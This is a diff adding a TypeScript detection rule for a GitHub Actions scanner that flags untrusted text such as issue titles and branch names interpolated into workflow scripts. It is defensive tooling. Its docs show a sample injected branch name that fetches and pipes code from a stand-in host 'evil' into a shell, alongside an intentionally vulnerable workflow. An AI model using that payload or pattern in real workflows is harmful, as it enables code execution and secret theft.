@@ -1,0 +1,94 @@
+// Text that strangers write, pasted into a script before it runs. Text of members and callers is for `input-in-script`.
+import { describeReach, jobReach } from '../../server/engine/facts/github/job-reach.ts';
+import { untrustedInputs } from '../../server/engine/facts/github/untrusted-input.ts';
+import { untrustedTriggers } from '../../server/engine/facts/github/untrusted-triggers.ts';
+import type { Workflow, WorkflowJob } from '../../server/engine/facts/workflow.ts';
+import { defineRule } from '../../server/engine/rule.ts';
+import { throughEnvironment } from './env-indirection.ts';
+import { expressionsInCode } from './script-inputs.ts';
+
+export const templateInjection = defineRule({
+  id: 'github/template-injection',
+  meta: {
+    title: 'Text of strangers pasted into a script',
+    category: 'workflow',
+    severity: 'high',
+    confidence: 'high',
+    frameworks: ['NHI8:2025', 'PR.PS-06'],
+    peers: ['zizmor template-injection', 'actionlint expression', 'poutine injection', 'octoscan expression-injection', 'CKV_GHA_2'],
+    fix: 'suggestion',
+    messages: {
+      reach: '`{input}` is written by {who} and becomes part of this script before it runs; whoever writes a command there gets {reach}',
+      plain: '`{input}` is written by {who} and becomes part of this script before it runs; whoever writes a command there runs it in this job',
+    },
+    docs: {
+      what: 'A title, body, branch name or message that anyone can write, inside `${{ }}` in a script.',
+      why: 'GitHub replaces the expression by its text before the shell sees the script. A pull request from a branch called `a";curl evil|sh;"` then runs a command with everything that the job holds: its token, its secrets, its cloud role.',
+      remedy: 'Hand the text over as an environment variable and quote the variable: the shell never takes its content for code.',
+      bad: [
+        {
+          file: '.github/workflows/greet.yml',
+          text: `on: issues
+permissions:
+  issues: write
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "New issue \${{ github.event.issue.title }}"
+`.replace('${{ github.event.issue.title }}', '«${{ github.event.issue.title }}»'),
+        },
+      ],
+      good: [
+        {
+          file: '.github/workflows/greet.yml',
+          text: `on: pull_request
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "New title $TITLE"
+        env:
+          TITLE: \${{ github.event.pull_request.title }}
+`,
+        },
+      ],
+      references: ['https://docs.github.com/en/actions/concepts/security/script-injections', 'https://securitylab.github.com/resources/github-actions-untrusted-input/'],
+    },
+  },
+  on: {
+    step(step, job, workflow, context) {
+      for (const expression of expressionsInCode(step)) {
+        const input = untrustedInputs(expression.tree, workflow).find((one) => one.author === 'stranger');
+        if (!input) continue;
+        const reach = job ? describeReach(jobReach(job, workflow)) : '';
+        context.report({
+          at: expression.at,
+          message: reach === '' ? 'plain' : 'reach',
+          data: { input: input.path, who: whoWrites(workflow), reach },
+          anchor: `${step.anchor}|${expression.where}|${input.path}`,
+          severity: severityOf(job, workflow, reach),
+          suggestions: throughEnvironment(expression, step, job, nameFor(input.path)),
+        });
+      }
+    },
+  },
+});
+
+/** Critical where strangers start the run themselves and an identity is in reach; milder where a fork gets neither token nor secrets. */
+function severityOf(job: WorkflowJob | undefined, workflow: Workflow, reach: string): 'critical' | 'high' | 'medium' {
+  if (untrustedTriggers(workflow).length > 0) return reach === '' ? 'high' : 'critical';
+  const pullRequest = workflow.triggers.some((trigger) => trigger.name === 'pull_request');
+  return job && pullRequest && !jobReach(job, workflow).selfHosted ? 'medium' : 'high';
+}
+
+function whoWrites(workflow: Workflow): string {
+  return untrustedTriggers(workflow)[0]?.who ?? (workflow.triggers.some((trigger) => trigger.name === 'pull_request') ? 'anyone who opens a pull request' : 'whoever wrote the commit or the issue');
+}
+
+/** A name for the variable, from the last words of the path: `ISSUE_TITLE`, `HEAD_REF`. */
+export function nameFor(path: string): string {
+  const parts = path.split('.').filter((part) => part !== '*' && part !== '[]' && part !== 'github' && part !== 'event' && part !== 'inputs' && part !== 'secrets');
+  return parts.slice(-2).join('_');
+}
